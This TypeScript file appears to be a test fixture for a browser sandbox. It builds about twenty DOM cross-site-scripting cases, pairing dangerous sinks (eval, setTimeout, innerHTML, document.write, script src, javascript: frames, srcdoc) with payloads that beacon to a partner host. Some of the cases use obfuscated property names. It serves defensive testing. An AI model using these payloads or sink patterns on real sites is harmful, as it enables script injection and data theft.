/**
 * Ways from a value to code that no compiler follows, for the sandbox: there the browser keeps the value dead. Names that the
 * compiler would refuse are put together; what it refuses however written (`import()` of a value) can't be tried.
 */

const RUNS = 'new Image().src = "PARTNER/pwned";';
const MARKUP = "<img src=x: onerror='new Image().src = `PARTNER/pwned`'>";
/** Read back from the document, as no compiler follows it: `o` is the value. */
const READ = '<p id="o" data-order="{{X}}"></p><script>var o = document.getElementById("o").dataset.order;';
const LATER = 'document.body.appendChild(document.createElement("hr"));';

/** Ways from a value to code: the template behind `READ`, and the value. */
const WAYS: Record<string, [script: string, value: string]> = {
  eval: ['try { (0, eval)(o) } catch (e) {} </script>', RUNS],
  Function: ['try { new Function(o)() } catch (e) {} </script>', RUNS],
  'a constructor by another name': ['try { [].at.constructor(o)() } catch (e) {} </script>', RUNS],
  'a timer': ['var later = setTimeout; try { later(o, 0) } catch (e) {} </script>', RUNS],
  innerHTML: ['document.getElementById("o").innerHTML = o </script>', MARKUP],
  'document.write': ['document.write(o) </script>', `<script>${RUNS}</script>`],
  'document.write of a handler': ['document.write(o) </script>', MARKUP],
  insertAdjacentHTML: ['document.body.insertAdjacentHTML("beforeend", o) </script>', MARKUP],
  'a fragment': [
    'document.body.append(document.createRange().createContextualFragment(o)) </script>',
    `<script>${RUNS}</script>`,
  ],
  'a script’s text': [
    'var s = document.createElement("script"); try { s.text = o; document.body.append(s) } catch (e) {} </script>',
    RUNS,
  ],
  'a script’s child': [
    'var s = document.createElement("script"); s.append(o); try { document.body.append(s) } catch (e) {} </script>',
    RUNS,
  ],
  'the text of a script that is there': [
    'try { document.getElementById("s").append(o) } catch (e) {} </script><script id="s"></script><script>try { document.getElementById("s").append(o) } catch (e) {} </script>',
    RUNS,
  ],
  'a copy of a script': [
    'var old = document.scripts[document.scripts.length - 1], s = document.createElement("script"), list = "attri" + "butes"; for (var i = 0; i < old[list].length; i++) s.setAttribute(old[list][i].name, old[list][i].value); s.append(o); try { document.body.append(s) } catch (e) {} </script>',
    RUNS,
  ],
  'a script’s address': [
    'var s = document.createElement("script"); try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script>',
    'data:text/javascript,new Image().src="PARTNER/pwned"',
  ],
  'a script’s address at a host for images': [
    'var s = document.createElement("script"); try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script><img src="PARTNER/x.gif">',
    'PARTNER/gadget.js',
  ],
  'a module': [
    'var s = document.createElement("script"); s.type = "module"; try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script>',
    'data:text/javascript,new Image().src="PARTNER/pwned"',
  ],
  'a module at a host for images': [
    'var s = document.createElement("script"); s.type = "module"; try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script><img src="PARTNER/x.gif">',
    'PARTNER/gadget.js',
  ],
  'a handler’s attribute': [
    'try { document.body.setAttribute("onclick", o); document.body.click() } catch (e) {} </script>',
    RUNS,
  ],
  'a frame’s document': [
    'var f = document.createElement("iframe"); try { f.srcdoc = o; document.body.append(f) } catch (e) {} </script>',
    `<script>${RUNS}</script>`,
  ],
  'a frame whose address is code': [
    'var f = document.createElement("iframe"); f.src = o; document.body.append(f) </script>',
    'javascript:void(new Image().src = "PARTNER/pwned")',
  ],
  'a parsed document': [
    'document.body.append(new DOMParser().parseFromString(o, "text/html").body.firstChild) </script>',
    MARKUP,
  ],
  'markup that uses the template’s handler': [
    `document.body.insertAdjacentHTML("beforeend", o); ${LATER} </script><img alt="" src="PARTNER/x.gif" onload="void 0">`,
    `<img src=x: onerror="void 1; new Image().src = 'PARTNER/pwned'">`,
  ],
};

export interface WayToCode {
  name: string;
  /** with `{{X}}` for the value */
  template: string;
  value: string;
  /** what the value's code asks the partner for */
  asks: string;
}

/** `partner`: its address. It also has to serve `scripts`, by path. */
export function waysToCode(partner: string): { ways: WayToCode[]; scripts: [path: string, text: string][] } {
  const scripts: [string, string][] = [];
  const ways = Object.entries(WAYS).map(([name, [script, value]], index) => {
    scripts.push([`/gadget-${index}.js`, `new Image().src = "${partner}/pwned-${index}";`]);
    return {
      name,
      template: `${READ}${script}`.replaceAll('PARTNER', partner),
      value: value
        .replaceAll('PARTNER/gadget.js', `${partner}/gadget-${index}.js`)
        .replaceAll('PARTNER/pwned', `${partner}/pwned-${index}`),
      asks: `/pwned-${index}`,
    };
  });
  return { ways, scripts };
}
